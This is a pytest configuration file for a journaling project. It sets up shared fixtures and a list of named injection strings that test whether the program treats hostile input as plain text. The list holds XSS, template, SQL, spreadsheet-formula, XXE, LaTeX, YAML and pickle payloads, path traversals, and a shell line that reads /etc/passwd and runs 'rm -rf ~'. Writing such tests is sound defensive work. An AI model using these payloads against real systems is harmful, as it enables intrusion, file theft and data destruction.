"""What the tests of every room share."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, settings

from journal import clock

# No test is timed: a machine that others use too is slow at times.
settings.register_profile("shared", deadline=None, suppress_health_check=[HealthCheck.too_slow])
settings.load_profile("shared")

ROOT = Path(__file__).parent.parent


@pytest.fixture(scope="session")
def root() -> Path:
    """The project's folder."""
    return ROOT


@pytest.fixture(autouse=True)
def journals(tmp_path, monkeypatch):
    """A folder of this test's own, so that no test ever touches somebody's real journals."""
    folder = tmp_path / "journals"
    monkeypatch.setenv("WORKBOOK_JOURNALS", str(folder))
    return folder


class StandingClock:
    """Tells the same time until it is moved."""

    def __init__(self) -> None:
        self.moment = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)

    def forward(self, **span: float) -> None:
        self.moment += timedelta(**span)

    def __call__(self) -> datetime:
        return self.moment


@pytest.fixture
def standing_clock() -> Iterator[StandingClock]:
    """The one clock, standing still."""
    told = StandingClock()
    with clock.told_by(told):
        yield told


INJECTIONS: list[tuple[str, str]] = [
    # markup
    ("script", "<script>globalThis.hacked = true</script>"),
    ("script in capitals", "<ScRiPt>globalThis.hacked = true</sCrIpT>"),
    ("script that ends another", "</script><script>globalThis.hacked = true</script>"),
    ("script in two", "<scr<script>ipt>globalThis.hacked = true</scr</script>ipt>"),
    ("image", "<img src=x onerror='globalThis.hacked = true'>"),
    ("image without spaces", "<img/src=x/onerror=globalThis.hacked=true>"),
    ("drawing", "<svg onload='globalThis.hacked = true'><animate onbegin='hacked = 1'/></svg>"),
    ("drawing's text", "</text><text onclick='globalThis.hacked = true'>here</text>"),
    ("frame", "<iframe srcdoc='<script>parent.hacked = true</script>'></iframe>"),
    ("handler", '" onmouseover="globalThis.hacked = true" autofocus onfocus=\'hacked = 1\' x="'),
    ("link", "<a href='javascript:globalThis.hacked = true'>here</a>"),
    ("address of code", "javascript:globalThis.hacked=true//"),
    ("address of data", "data:text/html,<script>parent.hacked = true</script>"),
    ("form", "<form action='//example.org'><input name=key autofocus><button>Go</button></form>"),
    ("style", "</style><style>body { display: none }</style>"),
    ("style's address", "red; background: url(//example.org/?all)"),
    ("base", "<base href='//example.org/'><meta http-equiv=refresh content='0;//example.org'>"),
    ("closing all", "</textarea></p></div></main></body></html>"),
    ("comment", "<!-- --!> <!--[if IE]><script>hacked = 1</script><![endif]-->"),
    ("character data", "]]><![CDATA[<script>globalThis.hacked = true</script>]]>"),
    ("entities", "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &notit; &#x0;"),
    ("doctype", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
    ("template element", "<template><script>hacked = 1</script></template><math><mtext></table>"),
    # templates and format strings
    ("jinja", "{{7*7}} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} {# gone #}"),
    ("dollar template", "${7*7} #{7*7} `${globalThis.hacked = true}` $(id)"),
    ("angle template", "<%= 7*7 %> <?php echo 7*7 ?> <# 7*7 #>"),
    ("percent format", "%s %d %n %(words)s %% %"),
    ("brace format", "{0} {words} {0.__class__} {value!r} {} }{ {{"),
    ("replacement", "\\1 \\g<0> $1 $& $` $'"),
    # other languages
    ("sql", "'; DROP TABLE answer; --"),
    ("sql or", "\" OR 1=1; PRAGMA key = 'x'; ATTACH DATABASE '/tmp/x' AS x"),
    ("formula", "=cmd|' /C calc'!A0"),
    ("formula of an address", '=HYPERLINK("http://example.org/?"&A1,"here")'),
    ("formula with a plus", "+1+cmd|' /C calc'!A0"),
    ("formula with a minus", "-2+3"),
    ("formula with an at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula after a tab", "\t=1+1"),
    ("formula after a line", "\r\n=1+1"),
    ("cells", 'a,"b""\n;c\td|e'),
    ("latex", "\\input{/etc/passwd} \\write18{id} \\end{document} \\def\\x{\\x}\\x"),
    ("mathtext", "$\\frac{}{}$ and $5 or 6$"),
    ("mathtext that fails", "$\\frac{$ \\undefined$ ^ _ $$"),
    (
        "markdown",
        "# big\n![x](//example.org/x.png) [here](javascript:hacked=1) **bold** `code`\n---",
    ),
    ("pdf", ") Tj ET (\\) /JS (app.alert(1)) >> endobj %%EOF"),
    ("shell", "`id`; $(id) | cat /etc/passwd && rm -rf ~ > /dev/null #"),
    ("python", "__import__('os').system('id')"),
    ("yaml", "!!python/object/apply:os.system ['id'] &a *a {x: y}: - ? |"),
    ("pickle", "cos\nsystem\n(S'id'\ntR."),
    ("json that ends", '"}]},"kind":"lock","x":["'),
    ("json of an object", '{"__proto__": {"hacked": true}, "constructor": null}'),
    ("path", "../../../../etc/passwd"),
    ("path of windows", "..\\..\\windows\\win.ini C:\\ \\\\host\\share file:///etc/passwd"),
    ("header", "x\r\nSet-Cookie: seat=1\r\n\r\n<script>hacked = 1</script>"),
    # text that is odd in itself
    ("nul and controls", "a\0b\x01\x07\x08\x1b[31m\x7f\x85\x9fc"),
    ("other lines", "one\u2028two\u2029three\x0bfour\x0cfive\rsix"),
    ("right to left", "\u202egnp.exe\u202c \u2067שלום\u2069 \u200fأهلا"),
    ("without width", "\ufeffa\u200bb\u200cc\u200dd\u2060e\u00adf\ufeff"),
    ("zalgo", "z" + "\u0310\u0321\u035b\u0489" * 40 + "algo"),
    ("half an emoji", "one \ud83d two \udc69 three"),
    ("family", "👩‍👩‍👧 🏳️‍🌈 👍🏽 🇫🇷 é vs e\u0301 ﷽ ǅ"),
    ("beyond unicode", "\ufffe\uffff\U0010ffff\ue000\ufdd0"),
    ("tags", "a\U000e0068\U000e0069\U000e007f b"),
    ("long word", "a" * 5_000),
    ("long text", "It was raining again, and I waited. " * 560),
    ("spaces", " \t \u00a0\u3000 "),
]


@pytest.fixture(scope="session")
def injections() -> list[tuple[str, str]]:
    """Texts that somewhere have been taken for more than text, each with a name."""
    return INJECTIONS
